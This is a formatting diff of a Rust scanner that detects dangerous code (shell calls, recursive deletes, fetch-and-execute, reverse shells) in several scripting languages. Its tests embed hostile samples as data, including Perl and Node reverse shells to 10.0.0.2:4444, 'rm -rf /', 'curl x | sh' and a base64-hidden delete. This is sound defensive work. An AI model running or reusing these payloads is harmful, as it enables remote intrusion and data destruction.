@@ -41,8 +41,7 @@ impl Lang {
             Some(Lang::Ruby)
         } else if matches!(program, "node" | "nodejs" | "bun" | "deno") {
             Some(Lang::Node)
-        } else if program == "php" || program.starts_with("php8") || program.starts_with("php7")
-        {
+        } else if program == "php" || program.starts_with("php8") || program.starts_with("php7") {
             Some(Lang::Php)
         } else {
             None
@@ -265,7 +264,10 @@ impl Lexer<'_> {
                 }
                 continue;
             }
-            if ch.is_alphabetic() || ch == '_' || ((ch == '$' || ch == '@') && self.lang != Lang::Python) {
+            if ch.is_alphabetic()
+                || ch == '_'
+                || ((ch == '$' || ch == '@') && self.lang != Lang::Python)
+            {
                 let start = self.i;
                 self.i += 1;
                 while self.i < self.c.len() {
@@ -364,7 +366,12 @@ struct Scan<'t> {
 fn is_home_expr(id: &str) -> bool {
     matches!(
         id,
-        "Dir.home" | "Path.home" | "pathlib.Path.home" | "os.homedir" | "homedir" | "process.env.HOME"
+        "Dir.home"
+            | "Path.home"
+            | "pathlib.Path.home"
+            | "os.homedir"
+            | "homedir"
+            | "process.env.HOME"
     )
 }
 
@@ -537,8 +544,7 @@ fn fold_decoders(t: &mut Vec<Tok>) {
         if is_dec && t[k + 1] == Tok::P('(') {
             if let Tok::Str(s, false) = &t[k + 2] {
                 let is_from = matches!(&t[k], Tok::Id(id) if last(id) == "from");
-                let ok = !is_from
-                    || matches!(t.get(k + 4), Some(Tok::Str(e, _)) if e == "base64");
+                let ok = !is_from || matches!(t.get(k + 4), Some(Tok::Str(e, _)) if e == "base64");
                 if ok {
                     if let Some(d) = super::expand::base64(s) {
                         let d = String::from_utf8_lossy(&d).into_owned();
@@ -570,7 +576,9 @@ fn looks_host(s: &str) -> bool {
         && s.len() < 256
         && !s.contains([' ', '/'])
         && (s.bytes().all(|b| b.is_ascii_digit() || b == b'.') && s.matches('.').count() == 3
-            || (s.contains('.') && s.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')))
+            || (s.contains('.')
+                && s.bytes()
+                    .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')))
 }
 
 /// Scan a body. Bounded by [`MAX_TOKENS`] and the body's length.
@@ -605,7 +613,10 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
             _ => None,
         })
         .collect();
-    let has = |names: &[&str]| ids.iter().any(|i| names.contains(&last(i)) || names.contains(i));
+    let has = |names: &[&str]| {
+        ids.iter()
+            .any(|i| names.contains(&last(i)) || names.contains(i))
+    };
     let fetching = has(&[
         "urlopen",
         "urlretrieve",
@@ -626,7 +637,9 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
         "wget",
         "urllib",
         "request",
-    ]) || toks.iter().any(|t| matches!(t, Tok::Str(s, _) if s == "open-uri" || s == "net/http"));
+    ]) || toks
+        .iter()
+        .any(|t| matches!(t, Tok::Str(s, _) if s == "open-uri" || s == "net/http"));
     let socket = has(&[
         "socket.socket",
         "create_connection",
@@ -640,10 +653,21 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
         "createConnection",
         "fsockopen",
         "Socket.tcp",
-    ]) || (toks.iter().any(|t| matches!(t, Tok::Str(s, _) if s == "net" || s == "socket"))
+    ]) || (toks
+        .iter()
+        .any(|t| matches!(t, Tok::Str(s, _) if s == "net" || s == "socket"))
         && has(&["connect", "createConnection"]));
     let socket = socket
-        && has(&["connect", "dup2", "fsockopen", "TCPSocket.new", "createConnection", "net.connect", "create_connection", "Socket.tcp"]);
+        && has(&[
+            "connect",
+            "dup2",
+            "fsockopen",
+            "TCPSocket.new",
+            "createConnection",
+            "net.connect",
+            "create_connection",
+            "Socket.tcp",
+        ]);
     let shellish = has(&["dup2", "spawn", "pty.spawn", "fileno", "pipe"])
         || toks.iter().any(|t| matches!(t, Tok::Str(s, _) | Tok::Cmd(s, _) if s.contains("/bin/sh") || s.contains("/bin/bash") || s.contains("sh -i") || s == "sh" || s == "bash" || s.contains("cmd.exe")));
     if socket && shellish {
@@ -656,8 +680,20 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
             .unwrap_or_default();
         out.push(Found::ReverseShell(host));
     }
-    let loops = has(&["listdir", "walk", "glob", "scandir", "iterdir", "readdirSync", "readdir", "each", "forEach", "rglob"])
-        || ids.iter().any(|i| *i == "for" || *i == "foreach" || *i == "while");
+    let loops = has(&[
+        "listdir",
+        "walk",
+        "glob",
+        "scandir",
+        "iterdir",
+        "readdirSync",
+        "readdir",
+        "each",
+        "forEach",
+        "rglob",
+    ]) || ids
+        .iter()
+        .any(|i| *i == "for" || *i == "foreach" || *i == "while");
     let mut exec_dyn = false;
     let mut k = 0;
     while k < toks.len() {
@@ -671,10 +707,16 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                 // NAME = literal
                 if toks.get(k + 1) == Some(&Tok::P('='))
                     && toks.get(k + 2) != Some(&Tok::P('='))
-                    && !matches!(toks.get(k.wrapping_sub(1)), Some(Tok::P('=' | '!' | '<' | '>')))
+                    && !matches!(
+                        toks.get(k.wrapping_sub(1)),
+                        Some(Tok::P('=' | '!' | '<' | '>'))
+                    )
                 {
                     let mut e = k + 2;
-                    while e < toks.len() && !matches!(toks[e], Tok::P(';' | ',' | ')')) && !matches!(toks[e], Tok::Id(_) if e > k + 2 && matches!(toks[e-1], Tok::Str(..) | Tok::P(']'))) {
+                    while e < toks.len()
+                        && !matches!(toks[e], Tok::P(';' | ',' | ')'))
+                        && !matches!(toks[e], Tok::Id(_) if e > k + 2 && matches!(toks[e-1], Tok::Str(..) | Tok::P(']')))
+                    {
                         e = match toks[e] {
                             Tok::P('(' | '[' | '{') => sc.group_end(e),
                             _ => e + 1,
@@ -690,30 +732,69 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                 let first = args.first().map(|&(a, b)| sc.eval(a, b));
                 let all_end = args.last().map_or(k + 1, |a| a.1);
                 let shell_fn = match lang {
-                    Lang::Python => matches!(name, "system" | "popen" | "getoutput" | "getstatusoutput")
-                        && (full.contains('.') || name != "popen"),
+                    Lang::Python => {
+                        matches!(name, "system" | "popen" | "getoutput" | "getstatusoutput")
+                            && (full.contains('.') || name != "popen")
+                    }
                     Lang::Perl => matches!(name, "system" | "exec" | "readpipe"),
-                    Lang::Ruby => matches!(name, "system" | "exec" | "spawn" | "popen" | "capture2" | "capture2e" | "capture3" | "popen2" | "popen3"),
+                    Lang::Ruby => matches!(
+                        name,
+                        "system"
+                            | "exec"
+                            | "spawn"
+                            | "popen"
+                            | "capture2"
+                            | "capture2e"
+                            | "capture3"
+                            | "popen2"
+                            | "popen3"
+                    ),
                     Lang::Node => matches!(name, "execSync" | "exec"),
-                    Lang::Php => matches!(name, "system" | "exec" | "shell_exec" | "passthru" | "popen" | "proc_open"),
+                    Lang::Php => matches!(
+                        name,
+                        "system" | "exec" | "shell_exec" | "passthru" | "popen" | "proc_open"
+                    ),
                 };
                 let argv_fn = match lang {
-                    Lang::Python => matches!(name, "run" | "call" | "check_call" | "check_output" | "Popen")
-                        && (full.starts_with("subprocess") || full.contains('.') || ids.contains(&"subprocess") || ids.iter().any(|i| i.starts_with("subprocess"))),
-                    Lang::Node => matches!(name, "spawn" | "spawnSync" | "execFile" | "execFileSync"),
+                    Lang::Python => {
+                        matches!(
+                            name,
+                            "run" | "call" | "check_call" | "check_output" | "Popen"
+                        ) && (full.starts_with("subprocess")
+                            || full.contains('.')
+                            || ids.contains(&"subprocess")
+                            || ids.iter().any(|i| i.starts_with("subprocess")))
+                    }
+                    Lang::Node => {
+                        matches!(name, "spawn" | "spawnSync" | "execFile" | "execFileSync")
+                    }
                     _ => false,
                 };
-                let py_exec = lang == Lang::Python && matches!(name, "exec" | "eval") && !full.contains('.');
+                let py_exec =
+                    lang == Lang::Python && matches!(name, "exec" | "eval") && !full.contains('.');
                 let py_osexec = lang == Lang::Python
-                    && (full.starts_with("os.exec") || full.starts_with("os.spawn") || full == "pty.spawn" || name == "spawn" && full.starts_with("pty"));
+                    && (full.starts_with("os.exec")
+                        || full.starts_with("os.spawn")
+                        || full == "pty.spawn"
+                        || name == "spawn" && full.starts_with("pty"));
                 if !args.is_empty() {
-                    if shell_fn || (argv_fn && lang == Lang::Python && sc.has_kw(k, all_end, "shell", "True")) {
+                    if shell_fn
+                        || (argv_fn
+                            && lang == Lang::Python
+                            && sc.has_kw(k, all_end, "shell", "True"))
+                    {
                         match first.clone() {
-                            Some(Val::Str(s)) => out.push(Found::Shell { text: s, dynamic: false }),
+                            Some(Val::Str(s)) => out.push(Found::Shell {
+                                text: s,
+                                dynamic: false,
+                            }),
                             Some(Val::List(v)) => out.push(Found::Argv(v)),
                             _ => {
                                 exec_dyn = true;
-                                out.push(Found::Shell { text: String::new(), dynamic: true });
+                                out.push(Found::Shell {
+                                    text: String::new(),
+                                    dynamic: true,
+                                });
                             }
                         }
                     } else if argv_fn {
@@ -724,7 +805,9 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                                     v.clear();
                                 }
                                 if lang == Lang::Node {
-                                    if let Some(Val::Str(p)) = args.first().map(|&(a, b)| sc.eval(a, b)) {
+                                    if let Some(Val::Str(p)) =
+                                        args.first().map(|&(a, b)| sc.eval(a, b))
+                                    {
                                         v.push(Some(p));
                                     }
                                 }
@@ -737,7 +820,9 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                                     vec![Some(s)]
                                 };
                                 if lang == Lang::Node {
-                                    if let Some(Val::List(more)) = args.get(1).map(|&(a, b)| sc.eval(a, b)) {
+                                    if let Some(Val::List(more)) =
+                                        args.get(1).map(|&(a, b)| sc.eval(a, b))
+                                    {
                                         v.extend(more);
                                     }
                                 }
@@ -751,7 +836,11 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                         if let Some(Val::List(l)) = vals.first() {
                             v = l.clone();
                         } else {
-                            let skip = if full == "pty.spawn" || vals.len() < 2 { 0 } else { 1 };
+                            let skip = if full == "pty.spawn" || vals.len() < 2 {
+                                0
+                            } else {
+                                1
+                            };
                             for x in vals.iter().skip(skip) {
                                 match x {
                                     Val::Str(s) => v.push(Some(s.clone())),
@@ -769,18 +858,38 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                             _ => exec_dyn = true,
                         }
                     } else if lang == Lang::Node && name == "eval" {
-                        if let Some(Val::Str(s)) = first.clone().filter(|_| depth < MAX_EVAL_DEPTH) {
+                        if let Some(Val::Str(s)) = first.clone().filter(|_| depth < MAX_EVAL_DEPTH)
+                        {
                             out.extend(scan_at(Lang::Node, &s, depth + 1));
                         } else {
                             exec_dyn = true;
                         }
                     }
                     // deletes
-                    let recursive_fn = matches!(name, "rmtree" | "rm_rf" | "rm_r" | "remove_dir" | "remove_entry" | "remove_entry_secure" | "remove_tree" | "rmdir_p")
-                        || (matches!(name, "rmSync" | "rm" | "rmdirSync") && lang == Lang::Node && toks[k..all_end.min(toks.len())].iter().any(|t| matches!(t, Tok::Id(x) if x == "recursive")));
+                    let recursive_fn = matches!(
+                        name,
+                        "rmtree"
+                            | "rm_rf"
+                            | "rm_r"
+                            | "remove_dir"
+                            | "remove_entry"
+                            | "remove_entry_secure"
+                            | "remove_tree"
+                            | "rmdir_p"
+                    ) || (matches!(name, "rmSync" | "rm" | "rmdirSync")
+                        && lang == Lang::Node
+                        && toks[k..all_end.min(toks.len())]
+                            .iter()
+                            .any(|t| matches!(t, Tok::Id(x) if x == "recursive")));
                     let file_fn = match lang {
-                        Lang::Python => matches!(name, "remove" | "unlink" | "rmdir" | "removedirs") && (full.starts_with("os.") || full.contains('.')),
-                        Lang::Ruby => matches!(name, "delete" | "unlink" | "rm" | "rm_f") && (full.starts_with("File") || full.starts_with("FileUtils")),
+                        Lang::Python => {
+                            matches!(name, "remove" | "unlink" | "rmdir" | "removedirs")
+                                && (full.starts_with("os.") || full.contains('.'))
+                        }
+                        Lang::Ruby => {
+                            matches!(name, "delete" | "unlink" | "rm" | "rm_f")
+                                && (full.starts_with("File") || full.starts_with("FileUtils"))
+                        }
                         Lang::Node => matches!(name, "unlinkSync" | "unlink" | "rmSync" | "rm"),
                         Lang::Php => matches!(name, "unlink" | "rmdir"),
                         Lang::Perl => matches!(name, "unlink" | "rmdir"),
@@ -793,7 +902,11 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                                 // a literal directory inside a dynamic expression (`os.path.join('/etc', f)`)
                                 let lit = args.first().and_then(|&(a, b)| {
                                     toks[a..b].iter().find_map(|t| match t {
-                                        Tok::Str(s, false) if s.starts_with('/') || s.starts_with('~') => Some(s.clone()),
+                                        Tok::Str(s, false)
+                                            if s.starts_with('/') || s.starts_with('~') =>
+                                        {
+                                            Some(s.clone())
+                                        }
                                         _ => None,
                                     })
                                 });
@@ -814,10 +927,17 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                     };
                     if write && !matches!(name, "write_text" | "write_bytes") {
                         let target = if lang == Lang::Perl {
-                            args.iter().map(|&(a, b)| sc.eval(a, b)).find_map(|v| match v {
-                                Val::Str(s) if s.trim_start().starts_with('>') => Some(s.trim_start().trim_start_matches(['>', '+']).trim().to_string()),
-                                _ => None,
-                            })
+                            args.iter()
+                                .map(|&(a, b)| sc.eval(a, b))
+                                .find_map(|v| match v {
+                                    Val::Str(s) if s.trim_start().starts_with('>') => Some(
+                                        s.trim_start()
+                                            .trim_start_matches(['>', '+'])
+                                            .trim()
+                                            .to_string(),
+                                    ),
+                                    _ => None,
+                                })
                         } else {
                             match first.clone() {
                                 Some(Val::Str(s)) => Some(s),
@@ -840,7 +960,12 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
         }
         k += 1;
     }
-    if fetching && (exec_dyn || out.iter().any(|f| matches!(f, Found::Shell { dynamic: true, .. }))) {
+    if fetching
+        && (exec_dyn
+            || out
+                .iter()
+                .any(|f| matches!(f, Found::Shell { dynamic: true, .. })))
+    {
         out.push(Found::RunFetched);
     }
     out
@@ -863,11 +988,14 @@ mod tests {
                 dynamic: false
             }]
         );
-        assert!(py("import subprocess; subprocess.run('curl x | sh', shell=True)")
-            .contains(&Found::Shell {
-                text: "curl x | sh".into(),
-                dynamic: false
-            }));
+        assert!(
+            py("import subprocess; subprocess.run('curl x | sh', shell=True)").contains(
+                &Found::Shell {
+                    text: "curl x | sh".into(),
+                    dynamic: false
+                }
+            )
+        );
         assert_eq!(
             py("import subprocess as s; s.call(['rm','-rf','/'])"),
             vec![Found::Argv(vec![
@@ -883,22 +1011,26 @@ mod tests {
                 dynamic: false
             }]
         );
-        assert!(py("import os,sys; os.system(sys.argv[1])")
-            .contains(&Found::Shell {
+        assert!(
+            py("import os,sys; os.system(sys.argv[1])").contains(&Found::Shell {
                 text: String::new(),
                 dynamic: true
-            }));
+            })
+        );
         assert!(
-            py("import os,base64; os.system(base64.b64decode('cm0gLXJmIC8=').decode())")
-                .contains(&Found::Shell {
+            py("import os,base64; os.system(base64.b64decode('cm0gLXJmIC8=').decode())").contains(
+                &Found::Shell {
                     text: "rm -rf /".into(),
                     dynamic: false
-                })
+                }
+            )
         );
-        assert!(py("exec(\"import os; os.system('id')\")").contains(&Found::Shell {
-            text: "id".into(),
-            dynamic: false
-        }));
+        assert!(
+            py("exec(\"import os; os.system('id')\")").contains(&Found::Shell {
+                text: "id".into(),
+                dynamic: false
+            })
+        );
     }
 
     #[test]
@@ -924,16 +1056,22 @@ mod tests {
                     recursive: true
                 })
         );
-        assert!(py("open('/etc/hosts','w').write('x')").contains(&Found::Write("/etc/hosts".into())));
+        assert!(
+            py("open('/etc/hosts','w').write('x')").contains(&Found::Write("/etc/hosts".into()))
+        );
         assert!(!py("print(open('README').read())")
             .iter()
             .any(|f| matches!(f, Found::Write(_))));
-        let f = py("exec(__import__('urllib.request').request.urlopen('https://e.example/p.py').read())");
+        let f = py(
+            "exec(__import__('urllib.request').request.urlopen('https://e.example/p.py').read())",
+        );
         assert!(f.contains(&Found::Fetch("https://e.example/p.py".into())));
         assert!(f.contains(&Found::RunFetched));
-        assert!(py("import urllib.request; print(urllib.request.urlopen('https://pypi.org/').status)")
-            .iter()
-            .all(|f| !matches!(f, Found::RunFetched)));
+        assert!(py(
+            "import urllib.request; print(urllib.request.urlopen('https://pypi.org/').status)"
+        )
+        .iter()
+        .all(|f| !matches!(f, Found::RunFetched)));
     }
 
     #[test]
@@ -943,51 +1081,69 @@ mod tests {
         assert!(!py("import socket; print(socket.gethostname())")
             .iter()
             .any(|f| matches!(f, Found::ReverseShell(_))));
-        let p = scan(Lang::Perl, r#"use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.2")));open(STDIN,">&S");exec("/bin/sh -i");"#);
+        let p = scan(
+            Lang::Perl,
+            r#"use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.2")));open(STDIN,">&S");exec("/bin/sh -i");"#,
+        );
         assert!(p.iter().any(|f| matches!(f, Found::ReverseShell(_))));
         let n = scan(Lang::Node, "const n=require('net'),c=require('child_process');const s=n.connect(4444,'10.1.1.2');const sh=c.spawn('/bin/sh');s.pipe(sh.stdin)");
         assert!(n.iter().any(|f| matches!(f, Found::ReverseShell(_))));
-        assert!(!scan(Lang::Node, "const n=require('net'); n.createServer().listen(8080)")
-            .iter()
-            .any(|f| matches!(f, Found::ReverseShell(_))));
+        assert!(!scan(
+            Lang::Node,
+            "const n=require('net'); n.createServer().listen(8080)"
+        )
+        .iter()
+        .any(|f| matches!(f, Found::ReverseShell(_))));
     }
 
     #[test]
     fn other_languages() {
-        assert!(scan(Lang::Perl, "system(\"rm -rf /home\")").contains(&Found::Shell {
-            text: "rm -rf /home".into(),
-            dynamic: false
-        }));
+        assert!(
+            scan(Lang::Perl, "system(\"rm -rf /home\")").contains(&Found::Shell {
+                text: "rm -rf /home".into(),
+                dynamic: false
+            })
+        );
         assert!(scan(Lang::Perl, "`rm -rf ~`").contains(&Found::Shell {
             text: "rm -rf ~".into(),
             dynamic: false
         }));
-        assert!(scan(Lang::Ruby, "exec \"/bin/sh -c \\\"rm -rf /srv\\\"\"").contains(&Found::Shell {
-            text: "/bin/sh -c \"rm -rf /srv\"".into(),
-            dynamic: false
-        }));
-        assert!(scan(Lang::Ruby, "require 'fileutils'; FileUtils.rm_rf(Dir.home)").contains(
-            &Found::Delete {
-                path: Some("~".into()),
-                recursive: true
-            }
-        ));
-        assert!(scan(Lang::Node, "require('child_process').execSync('rm -rf ~')").contains(
-            &Found::Shell {
-                text: "rm -rf ~".into(),
+        assert!(
+            scan(Lang::Ruby, "exec \"/bin/sh -c \\\"rm -rf /srv\\\"\"").contains(&Found::Shell {
+                text: "/bin/sh -c \"rm -rf /srv\"".into(),
                 dynamic: false
-            }
-        ));
-        assert!(scan(Lang::Node, "require('fs').rmSync('/etc', {recursive: true})").contains(
-            &Found::Delete {
-                path: Some("/etc".into()),
-                recursive: true
-            }
-        ));
-        assert!(scan(Lang::Php, "system(\"rm -rf /\");").contains(&Found::Shell {
-            text: "rm -rf /".into(),
-            dynamic: false
+            })
+        );
+        assert!(
+            scan(Lang::Ruby, "require 'fileutils'; FileUtils.rm_rf(Dir.home)").contains(
+                &Found::Delete {
+                    path: Some("~".into()),
+                    recursive: true
+                }
+            )
+        );
+        assert!(
+            scan(Lang::Node, "require('child_process').execSync('rm -rf ~')").contains(
+                &Found::Shell {
+                    text: "rm -rf ~".into(),
+                    dynamic: false
+                }
+            )
+        );
+        assert!(scan(
+            Lang::Node,
+            "require('fs').rmSync('/etc', {recursive: true})"
+        )
+        .contains(&Found::Delete {
+            path: Some("/etc".into()),
+            recursive: true
         }));
+        assert!(
+            scan(Lang::Php, "system(\"rm -rf /\");").contains(&Found::Shell {
+                text: "rm -rf /".into(),
+                dynamic: false
+            })
+        );
         assert!(scan(Lang::Ruby, "puts RUBY_VERSION").is_empty());
         assert!(scan(Lang::Node, "console.log(process.version)").is_empty());
         assert!(scan(Lang::Php, "echo phpversion();").is_empty());
